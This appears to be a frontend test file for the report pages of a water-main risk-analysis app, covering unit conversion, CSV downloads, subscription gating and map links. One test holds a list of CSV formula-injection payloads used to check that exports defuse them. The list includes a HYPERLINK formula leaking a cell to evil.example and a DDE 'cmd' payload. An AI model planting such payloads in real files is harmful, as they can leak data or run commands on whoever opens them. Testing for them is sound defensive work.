import { screenAreaCode } from '@pipewise/domain';
import { screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { mockApi } from '../../../test/fetch-mock.ts';
import { renderWithApp } from '../../../test/render.tsx';
import { REPORT_PAGES, type ReportType } from '../report-pages.ts';
import { reportResponse, reportUser } from '../test-data.ts';
import { ReportView } from './ReportView.tsx';

const DATASET = { id: 3, name: 'Springfield mains' };
const QUERY = 'GET /api/datasets/3/reports/query';
const ROUTE = 'POST /api/report-routes';

function serve(type: ReportType, overrides: Parameters<typeof reportResponse>[1] = {}) {
  return mockApi({
    [QUERY]: { body: reportResponse(REPORT_PAGES[type].categories, overrides) },
    [ROUTE]: { status: 204 },
  });
}

function open(type: ReportType, user = reportUser(), dataset: typeof DATASET | null = DATASET) {
  return renderWithApp(<ReportView type={type} user={user} dataset={dataset} />, {
    path: `/reports/${type}`,
  });
}

const table = (id: string) => screen.findByTestId(`report-table-${id}`);
const headers = (el: HTMLElement) =>
  within(el)
    .getAllByRole('columnheader')
    .map((h) => h.textContent);
const bodyRows = (el: HTMLElement) => within(el).getAllByRole('row').slice(1);
const cells = (row: HTMLElement) =>
  within(row)
    .getAllByRole('cell')
    .map((c) => c.textContent);

/** The blob's text with its byte-order mark (jsdom's Blob has no text(), and readAsText drops the mark). */
function readBlob(blob: Blob): Promise<string> {
  return new Promise((resolve) => {
    const reader = new FileReader();
    reader.onload = () =>
      resolve(new TextDecoder('utf-8', { ignoreBOM: true }).decode(reader.result as ArrayBuffer));
    reader.readAsArrayBuffer(blob);
  });
}

/** The files the page hands the browser as downloads, and the link clicks that would start them. */
function captureDownloads() {
  const blobs: Blob[] = [];
  vi.stubGlobal(
    'URL',
    class extends URL {
      static override createObjectURL = (blob: Blob) => (blobs.push(blob), 'blob:csv');
      static override revokeObjectURL = () => undefined;
    },
  );
  const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
  return { blobs, click };
}

afterEach(() => {
  vi.unstubAllGlobals();
  vi.restoreAllMocks();
});

describe('ReportView', () => {
  it('shows network lengths in miles for a US reader', async () => {
    serve('asset');
    open('asset');
    const us = await table('length_by_material');
    expect(headers(us)).toEqual(['Material', 'Pipes', 'Length (mi)', 'Share of length']);
    // 1500 m of ductile iron = 0.93 mi; the row header names the material as the map legend does.
    expect(within(bodyRows(us)[0]!).getByRole('rowheader')).toHaveTextContent('Ductile iron');
    expect(cells(bodyRows(us)[0]!)).toEqual(['120', '0.93', '36.6%']);
  });

  it('shows the same table in kilometres for a metric reader', async () => {
    serve('asset');
    open('asset', reportUser({ metric: true }));
    const metric = await table('length_by_material');
    expect(headers(metric)).toContain('Length (km)');
    expect(cells(bodyRows(metric)[0]!)).toEqual(['120', '1.50', '36.6%']);
  });

  it('labels diameter tiers with their 001 §9 band in the reader’s unit', async () => {
    serve('asset');
    open('asset', reportUser({ metric: true }));
    const rows = bodyRows(await table('length_by_diameter'));
    expect(within(rows[0]!).getByRole('rowheader')).toHaveTextContent('< 102 mm');
    expect(within(rows[1]!).getByRole('rowheader')).toHaveTextContent('203 – 406 mm');
  });

  it('converts the break rate to breaks per 100 mi per year', async () => {
    serve('asset');
    open('asset');
    const breaks = await table('breaks_by_material');
    expect(headers(breaks)).toContain('Breaks per 100 mi per year');
    // 10 breaks per 100 km per year = 16.09 per 100 mi.
    expect(cells(bodyRows(breaks)[0]!)).toContain('16.09');
  });

  it('downloads the displayed table as CSV of plain numbers, header row with units first', async () => {
    serve('asset');
    const { blobs, click } = captureDownloads();
    open('asset');
    await table('length_by_material');
    await userEvent.click(screen.getByTestId('report-table-length_by_material-csv'));
    expect(click).toHaveBeenCalledOnce();
    const text = await readBlob(blobs[0]!);
    expect(text.split('\r\n')).toEqual([
      '\uFEFFMaterial,Pipes,Length (mi),Share of length',
      // 1,500 m = 0.9321 mi, 1,500 of 4,100 m = 36.585 %: what the screen rounds to 0.93 and 36.6 %.
      'Ductile iron,120,0.9321,36.585%',
      'Cast iron,80,1.5534,60.976%',
      'Unknown,3,0.0621,2.439%',
      'Total,203,2.5476,100%',
      '',
    ]);
  });

  // Issue 37: names imported from a utility's file reach the browser's CSV; none may start a live formula.
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    '+1+1',
    '@SUM(1,1)',
    "=cmd|' /C calc'!A0",
    '＝1+1',
  ];

  /** Each field of a CSV text (RFC 4180), the quotes taken off. */
  function csvFields(text: string): string[] {
    return [...text.replace(/^\uFEFF/, '').matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n)/g)].map(([, f]) =>
      f!.startsWith('"') ? f!.slice(1, -1).replaceAll('""', '"') : f!,
    );
  }

  it.each([
    ['highest', 'lof_highest'],
    ['mesh', 'area_mesh'],
  ] as const)('defuses formulas in the %s report CSV, the imported names kept readable', async (type, id) => {
    const results = {
      lof_highest: HOSTILE.map((native, i) => ({
        pipe_id: i + 1,
        native_id: native,
        material_type_code: 0,
        diameter_mm: 152.4,
        install_year: 1931,
        length_m: 304.8,
        lof: 0.31,
        rank: 0.1,
        breaks: 4,
        risk_driver_names: ['-1+1'],
      })),
      area_mesh: HOSTILE.map((name, i) => ({
        area_id: i + 1,
        native_id: `@M-${i}`,
        name,
        pipes: 12,
        length_m: 2500,
        lof_12: 0.2,
        expected_breaks_12: 0.22,
        top_risk_share: 0.4,
        risk_driver_names: ['Age'],
        total_cof: 5000,
        total_bre: 500,
      })),
    };
    serve(type, { results: results as never });
    const { blobs } = captureDownloads();
    open(type);
    await table(id);
    await userEvent.click(screen.getByTestId(`report-table-${id}-csv`));
    const fields = csvFields(await readBlob(blobs[0]!));
    expect(fields.length).toBeGreaterThan(HOSTILE.length * 5);
    const live = fields.filter((f) => /^[=+\-@\t\r＝＋－＠]/.test(f) && !/^[+-]?[\d.]+%?$/.test(f));
    expect(live).toEqual([]);
    for (const name of HOSTILE) expect(fields).toContain(`'${name}`);
  });

  it('tells the server the page was opened, once, with its screen area', async () => {
    const api = serve('lof');
    open('lof');
    await table('lof_length_absolute');
    expect(api.find(ROUTE)).toHaveLength(1);
    expect(api.find(ROUTE)[0]!.body).toEqual({
      route_type_code: screenAreaCode('lofReports'),
      dataset_id: 3,
    });
  });

  it('only logs a failed report-route call', async () => {
    const error = vi.spyOn(console, 'error').mockImplementation(() => undefined);
    mockApi({
      [QUERY]: { body: reportResponse(REPORT_PAGES.asset.categories) },
      [ROUTE]: { status: 500, body: { message: 'down' } },
    });
    open('asset');
    await table('length_by_material');
    await waitFor(() => expect(error).toHaveBeenCalled());
    expect(screen.queryByTestId('report-error')).toBeNull();
  });

  it.each([
    ['lof', ['COF', 'BRE'], 'LOF'],
    ['highest', ['COF'], 'LOF'],
    ['cof', ['LOF'], 'COF'],
    ['total-risk', ['LOF', 'COF'], 'BRE,COF'],
  ] as const)(
    '%s without its subscription says so and never asks for the figures',
    async (type, held, needs) => {
      const api = serve(type);
      open(type, reportUser({ subscriptions: [...held] }));
      expect(await screen.findByTestId('report-needs-subscription')).toHaveAttribute('data-needs', needs);
      await waitFor(() => expect(api.find(ROUTE)).toHaveLength(1));
      expect(api.find(QUERY)).toHaveLength(0);
    },
  );

  it('without a dataset points to the Datasets page', async () => {
    const api = serve('asset');
    open('asset', reportUser(), null);
    expect(await screen.findByTestId('report-go-to-data')).toHaveAttribute('href', '/data');
    expect(api.find(QUERY)).toHaveLength(0);
  });

  it('says the results are not ready while the analysis has not completed (409)', async () => {
    mockApi({
      [QUERY]: { status: 409, body: { status: 409, message: 'No analysis yet' } },
      [ROUTE]: { status: 204 },
    });
    open('asset');
    expect(await screen.findByTestId('report-not-ready')).toHaveTextContent('Springfield mains');
  });

  it('heads the report with the dataset, the COF scenario and the dates', async () => {
    serve('cof');
    open('cof');
    await screen.findByTestId('report-header');
    expect(screen.getByTestId('report-fact-dataset')).toHaveTextContent('Springfield mains');
    expect(screen.getByTestId('report-fact-scenario')).toHaveTextContent('Default (US)');
    expect(screen.getByTestId('report-fact-computed')).toHaveTextContent('Mar 2, 2026');
    expect(screen.getByTestId('report-fact-today')).not.toHaveTextContent('NA');
  });

  it('names a prior LOF (no break history, issue 39) in the heading of the pages drawn from LOF, not of the others', async () => {
    serve('lof', { lof_source: 'prior' });
    const lof = open('lof');
    expect(await screen.findByTestId('report-fact-lofSource')).toHaveTextContent(
      'prior: published break rates by material and age (Folkman 2018), no break history',
    );
    lof.unmount();
    serve('cof', { lof_source: 'prior' });
    open('cof');
    await screen.findByTestId('report-header');
    expect(screen.queryByTestId('report-fact-lofSource')).toBeNull();
  });

  it('shows the cost distribution in its 11 buckets, 0 % to 100 %', async () => {
    serve('cof');
    open('cof');
    const rows = bodyRows(await table('cof_distribution'));
    expect(rows.map((r) => within(r).getByRole('rowheader').textContent)).toEqual([
      '0%',
      '10%',
      '20%',
      '30%',
      '40%',
      '50%',
      '60%',
      '70%',
      '80%',
      '90%',
      '100%',
    ]);
  });

  it('gives COF and BRE tables the 5 level columns, low to very high', async () => {
    serve('cof');
    open('cof');
    const levels = ['Low', 'Medium low', 'Medium high', 'High', 'Very high'];
    expect(headers(await table('cof_top_average'))).toEqual(['Measure', ...levels]);
    expect(headers(await table('cof_wide_distribution'))).toEqual(['Measure', ...levels]);
    serve('total-risk');
    open('total-risk');
    expect(headers(await table('total_risk_risk'))).toEqual(['Measure', ...levels]);
    expect(headers(await table('total_risk_top'))).toEqual(['Measure', ...levels]);
    // Issue 38: "LOF, COF and total risk by level" charts all three, each in its unit, not total risk again.
    for (const id of ['total_risk_top', 'total_risk_top-1', 'total_risk_top-2'])
      expect(screen.getByTestId(`report-chart-${id}`)).toBeInTheDocument();
  });

  it('hides the environmental factor when the answer says so (Japan clients)', async () => {
    serve('cof', { hides_environment: true });
    open('cof');
    const factors = await table('cof_average_factors');
    expect(factors).not.toHaveTextContent('Environmental damage');
    expect(await table('cof_top_factors')).not.toHaveTextContent('Environmental damage');
  });

  it('shows the environmental factor to everyone else', async () => {
    serve('cof');
    open('cof');
    expect(await table('cof_average_factors')).toHaveTextContent('Environmental damage');
  });

  it('links the Highest report to the map’s Highest view, and each pipe of its work list to that pipe', async () => {
    serve('highest');
    open('highest');
    expect(await screen.findByTestId('report-show-on-map')).toHaveAttribute('href', '/map/highest');
    const list = await table('lof_highest');
    expect(headers(list)).toContain('Length (ft)');
    expect(within(list).getByRole('link', { name: 'P-41' })).toHaveAttribute('href', '/map/highest?pipe=41');
  });

  // Issue 38: pipes ranked by the money at stake, each with its address and a link to it on the map.
  it('ranks pipes by COF and by total risk, each opening on the map', async () => {
    serve('cof');
    open('cof');
    const cof = await table('cof_highest');
    expect(headers(cof)).toEqual(
      expect.arrayContaining(['Address', 'COF (USD)', 'Total risk (USD)', 'LOF within 12 months']),
    );
    expect(cof).toHaveTextContent('100 8th Ave');
    expect(cof).toHaveTextContent('$18.9M');
    expect(within(cof).getByRole('link', { name: 'P-52' })).toHaveAttribute('href', '/map/cof?pipe=52');
    serve('total-risk');
    open('total-risk');
    const bre = await table('bre_highest');
    expect(within(bre).getByRole('link', { name: 'P-41' })).toHaveAttribute('href', '/map/bre?pipe=41');
    expect(bre).toHaveTextContent('$12.4k');
  });

  it('asks for the chosen horizon and keeps it in the URL', async () => {
    const api = serve('lof');
    const { router } = open('lof');
    await table('lof_length_absolute');
    await userEvent.click(screen.getByTestId('report-horizon-36'));
    await waitFor(() =>
      expect(api.fetchMock.mock.calls.some(([url]) => String(url).includes('horizon=36'))).toBe(true),
    );
    expect(router.state.location.search).toBe('?horizon=36');
  });
});
